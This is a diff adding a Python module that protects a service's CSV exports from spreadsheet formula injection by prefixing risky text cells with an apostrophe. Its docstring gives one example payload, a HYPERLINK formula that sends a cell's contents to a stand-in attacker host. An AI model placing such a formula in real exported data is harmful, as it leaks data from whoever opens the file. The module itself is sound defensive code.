@@ -1,0 +1,63 @@
+"""Every CSV the service writes goes through here, so no cell runs as a spreadsheet formula.
+
+A spreadsheet treats a cell starting ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
+carriage return before one) as a formula: ``=HYPERLINK("https://evil.example?"&A1,"Open")``
+in a child's name or an uploaded file's name would run when a manager opens the file in
+Excel (CSV formula injection). ``safe_cell`` prefixes such text with an apostrophe, which
+spreadsheets show as text and do not print. Numbers stay numbers (``-2`` is a figure, not a
+formula), so only text is ever changed.
+
+Write with ``csv_writer(stream)`` instead of ``csv.writer(stream)``: it takes the same
+arguments and passes every cell of every row through ``safe_cell``.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable
+from decimal import Decimal
+from math import isfinite
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_number(value) -> bool:
+    if isinstance(value, bool):
+        return False
+    if isinstance(value, int | Decimal):
+        return True
+    return isinstance(value, float) and isfinite(value)
+
+
+def safe_cell(value) -> str | int | float | Decimal:
+    """A cell as written: numbers stay numbers, None is blank, and text that a spreadsheet
+    would run as a formula gets a leading apostrophe."""
+    if value is None:
+        return ""
+    if _is_number(value):
+        return value
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+class SafeWriter:
+    """``csv.writer`` with every cell passed through ``safe_cell``."""
+
+    def __init__(self, stream, **kwargs):
+        self._writer = csv.writer(stream, **kwargs)
+
+    @property
+    def dialect(self):
+        return self._writer.dialect
+
+    def writerow(self, row: Iterable):
+        return self._writer.writerow([safe_cell(cell) for cell in row])
+
+    def writerows(self, rows: Iterable[Iterable]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(stream, **kwargs) -> SafeWriter:
+    """Like ``csv.writer(stream, **kwargs)``, but no cell can start a formula."""
+    return SafeWriter(stream, **kwargs)
